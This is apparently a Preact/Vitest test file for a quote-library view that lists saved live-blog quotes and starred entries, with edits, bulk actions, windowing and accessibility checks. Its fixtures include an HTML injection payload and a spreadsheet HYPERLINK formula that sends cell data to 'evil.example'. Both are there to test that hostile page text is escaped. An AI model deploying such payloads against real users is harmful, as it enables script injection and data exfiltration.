// @vitest-environment happy-dom
// The library view (presentational): both lists with who/when/where and links, page text drawn as
// text, windowing of a 10,000-row list, keyboard movement between rows, and no axe violations.
import { cleanup, fireEvent, screen, within } from '@testing-library/preact';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { LibraryApp } from '../../../components/library/LibraryApp';
import { quoteItems, starredItems } from '../../../lib/library/items';
import { BUDGET, sampleSnapshot, UKRAINE } from '../../unit/export/sample';
import { appProps, expectNoAxeViolations } from './helpers';
import { renderT } from '../../helpers/i18n';

afterEach(cleanup);

const quotes = () => quoteItems(sampleSnapshot());
const starred = () => starredItems(sampleSnapshot());

describe('LibraryApp', () => {
  it('shows each quote with its speaker, entry time, blog title and site, newest first', () => {
    renderT(<LibraryApp {...appProps(quotes())} />);
    const list = screen.getByRole('list', { name: 'Quotes' });
    const rows = within(list).getAllByRole('listitem');
    expect(rows).toHaveLength(6);
    expect(rows[0]!.textContent).toContain('No comment at this time.');
    const reeves = rows.find((r) => r.textContent!.includes('Growth is up'))!;
    expect(reeves.textContent).toContain('Rachel Reeves');
    // The entry's time in UTC (the props' zone), as the reader's locale writes it.
    expect(reeves.textContent).toMatch(/Jan 2, 2024, 1:30\sPM/);
    expect(reeves.textContent).toContain('Budget 2024 – live updates');
    expect(reeves.textContent).toContain('(BBC News)'); // the site's display name, not its slug
    expect(reeves.textContent).toMatch(/1:30\sPM UTC/); // with its zone
    expect(within(reeves).getByRole('link', { name: /Open entry/ }).getAttribute('href')).toBe(`${BUDGET}#post-7`);
    expect(screen.getByRole('status', { name: '' }).textContent).toBe('6 quotes');
  });

  it('shows an entry’s time as the blog printed it beside the reader’s, and cites it so; in German too', async () => {
    const copied: string[] = [];
    const props = { ...appProps(quotes()), onCopy: async (text: string) => void copied.push(text) };
    renderT(<LibraryApp {...props} />);
    const starmer = within(screen.getByRole('list', { name: 'Quotes' })).getAllByRole('listitem').find((r) => r.textContent!.includes('for as long as it takes'))!;
    const time = starmer.querySelector('time')!;
    expect(time.textContent).toMatch(/^\u206810\.15 GMT\u2069 on the blog · your time: Jan 2, 2024, 10:15\sAM UTC$/);
    expect(time.getAttribute('datetime')).toBe('2024-01-02T10:15:00Z');
    // A quote whose entry printed no time shows the reader's time alone.
    const reeves = within(screen.getByRole('list', { name: 'Quotes' })).getAllByRole('listitem').find((r) => r.textContent!.includes('Growth is up'))!;
    expect(reeves.querySelector('time')!.textContent).not.toMatch(/on the blog/);
    fireEvent.click(within(starmer).getByRole('button', { name: /^Copy citation/ }));
    await vi.waitFor(() => expect(copied).toHaveLength(1));
    expect(copied[0]).toMatch(/, 10\.15 GMT \(Jan 2, 2024, 10:15\sAM UTC\), https:/);
    expect(copied[0]).not.toMatch(/[\u2068\u2069]/); // no invisible marks pasted into the reader's text
    cleanup();
    renderT(<LibraryApp {...appProps(starred())} />, 'de');
    expect(screen.getByText(/07\.30 GMT\u2069 im Blog · Ihre Zeit: /)).toBeTruthy();
  });

  it('draws hostile page text as text, never as markup', () => {
    const { container } = renderT(<LibraryApp {...appProps(quotes())} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText(/<img src=x onerror=alert\(1\)>/)).toBeTruthy();
    for (const a of Array.from(container.querySelectorAll('a'))) expect(a.getAttribute('href')).toMatch(/^https:\/\//);
  });

  it('shows starred entries with title, text, speakers and a link, and offers unstar', () => {
    const onDelete = vi.fn();
    renderT(<LibraryApp {...appProps(starred(), { view: 'starred', onDelete })} />);
    const list = screen.getByRole('list', { name: 'Starred entries' });
    const rows = within(list).getAllByRole('listitem');
    expect(rows).toHaveLength(2);
    expect(rows[1]!.textContent).toContain('Drone attack on Odesa port');
    expect(rows[1]!.textContent).toContain('Volodymyr Zelenskyy');
    expect(within(rows[1]!).getByRole('link').getAttribute('href')).toBe(`${UKRAINE}?page=with:block-200#block-200`);
    fireEvent.click(within(rows[1]!).getByRole('button', { name: /Unstar entry/ }));
    expect(onDelete).toHaveBeenCalledWith([JSON.stringify([UKRAINE, 'block-200'])]);
  });

  it('edits a quote speaker and note through a labelled form; Escape cancels', () => {
    const onEditQuote = vi.fn();
    renderT(<LibraryApp {...appProps(quotes(), { onEditQuote })} />);
    fireEvent.click(screen.getByRole('button', { name: 'Edit quote: Growth is up, and inflation is down to 2%.' }));
    const form = within(screen.getByRole('form', { name: 'Edit quote' }));
    fireEvent.input(form.getByLabelText('Speaker'), { target: { value: '  Jeremy Hunt ' } });
    fireEvent.input(form.getByLabelText('Note'), { target: { value: 'Autumn statement' } });
    fireEvent.click(form.getByRole('button', { name: 'Save' }));
    expect(onEditQuote).toHaveBeenCalledWith('q-reeves-01', { speaker: 'Jeremy Hunt', note: 'Autumn statement' });
    fireEvent.click(screen.getByRole('button', { name: /Edit quote: No comment/ }));
    fireEvent.keyDown(within(screen.getByRole('form', { name: 'Edit quote' })).getByLabelText('Speaker'), { key: 'Escape' });
    expect(screen.queryByRole('form', { name: 'Edit quote' })).toBeNull();
  });

  it('offers bulk actions for a selection', () => {
    const onDelete = vi.fn();
    const onSelect = vi.fn();
    const selected = new Set(['q-reeves-01', 'q-starmer-1']);
    renderT(<LibraryApp {...appProps(quotes(), { selected, onDelete, onSelect })} />);
    expect(screen.getByText('2 selected')).toBeTruthy();
    expect((screen.getByRole('checkbox', { name: /Select quote: Growth is up/ }) as HTMLInputElement).checked).toBe(true);
    fireEvent.click(screen.getByRole('checkbox', { name: /Select quote: No comment/ }));
    expect(onSelect).toHaveBeenCalledWith('q-nobody-01', true);
    fireEvent.click(screen.getByRole('button', { name: 'Delete selected' }));
    expect(onDelete).toHaveBeenCalledWith(['q-reeves-01', 'q-starmer-1']);
  });

  it('lists filter options with their counts', () => {
    renderT(<LibraryApp {...appProps(quotes())} />);
    const speaker = screen.getByLabelText('Speaker') as HTMLSelectElement;
    // Page text in an option is isolated (U+2068 … U+2069, invisible; see bidi.test.tsx).
    const label = (o: HTMLOptionElement) => o.textContent!.replace(/[\u2068\u2069]/g, '');
    expect(Array.from(speaker.options, label)).toEqual([
      'All speakers (6)', 'Keir Starmer (2)', '=HYPERLINK("http://evil.example/?"&A1) (1)', 'Emmanuel Macrón (1)', 'No speaker (1)', 'Rachel Reeves (1)',
    ]);
    expect(Array.from((screen.getByLabelText('Site') as HTMLSelectElement).options, label)).toEqual(['All sites (6)', 'BBC News (3)', 'The Guardian (3)']);
  });

  it('shows the undo notice and the import report', () => {
    const onUndo = vi.fn();
    renderT(
      <LibraryApp
        {...appProps(quotes(), {
          undo: { message: 'Deleted 2 quotes.' },
          onUndo,
          importOutcome: { fileName: 'x.json', summary: { added: { quotes: 3, starred: 1, blogs: 1 }, skipped: { quotes: 2, starred: 0 }, rejected: [{ kind: 'quote', index: 4, reason: 'quotes[4].text: empty' }] } },
        })}
      />,
    );
    expect(screen.getByText('Deleted 2 quotes.')).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Undo' }));
    expect(onUndo).toHaveBeenCalled();
    const report = screen.getByRole('status', { name: 'Import result' });
    expect(report.textContent).toContain('Added 3 quotes and 1 starred entry (from 1 new blog).');
    expect(report.textContent).toContain('2 items were already in the library.');
    expect(report.textContent).toContain('quotes[4].text: empty');
  });

  it('says an import is under way while it runs', () => {
    renderT(<LibraryApp {...appProps(quotes(), { importOutcome: { fileName: 'big.json', busy: true } })} />);
    const report = screen.getByRole('status', { name: 'Import result' });
    expect(report.textContent).toContain('Importing…');
    expect(within(report).queryByRole('button')).toBeNull();
  });

  it('renders only the rows near the screen for 10,000 quotes', () => {
    const base = quotes();
    const many = Array.from({ length: 10_000 }, (_, i) => ({ ...base[i % base.length]!, key: `q-many-${i}` }));
    renderT(<LibraryApp {...appProps(many)} />);
    const rows = within(screen.getByRole('list', { name: 'Quotes' })).getAllByRole('listitem');
    expect(rows.length).toBeGreaterThan(5);
    expect(rows.length).toBeLessThan(60);
    expect(rows[0]!.getAttribute('aria-setsize')).toBe('10000');
  });

  it('moves between rows with the arrow keys, Home and End (one tab stop for the list)', () => {
    const base = quotes();
    const many = Array.from({ length: 1_000 }, (_, i) => ({ ...base[i % base.length]!, key: `q-many-${i}` }));
    renderT(<LibraryApp {...appProps(many)} />);
    const list = screen.getByRole('list', { name: 'Quotes' });
    const first = list.querySelector<HTMLElement>('[data-index="0"]')!;
    expect(first.tabIndex).toBe(0);
    expect(list.querySelector<HTMLElement>('[data-index="1"]')!.tabIndex).toBe(-1);
    first.focus();
    fireEvent.keyDown(first, { key: 'ArrowDown' });
    expect(document.activeElement?.getAttribute('data-index')).toBe('1');
    fireEvent.keyDown(document.activeElement!, { key: 'End' });
    expect(document.activeElement?.getAttribute('data-index')).toBe('999');
    fireEvent.keyDown(document.activeElement!, { key: 'Home' });
    expect(document.activeElement?.getAttribute('data-index')).toBe('0');
  });

  it('has no axe violations: quotes, starred, editing, empty, with notices', async () => {
    const { container, rerender } = renderT(<LibraryApp {...appProps(quotes(), { selected: new Set(['q-reeves-01']), undo: { message: 'Deleted 1 quote.' } })} />);
    fireEvent.click(screen.getByRole('button', { name: /Edit quote: Growth/ }));
    await expectNoAxeViolations(container);
    rerender(<LibraryApp {...appProps(starred(), { view: 'starred' })} />);
    await expectNoAxeViolations(container);
    rerender(<LibraryApp {...appProps([], { importOutcome: { fileName: 'bad.json', error: 'The file is not JSON' } })} />);
    expect(screen.getByText(/No saved quotes yet/)).toBeTruthy();
    await expectNoAxeViolations(container);
  });
});
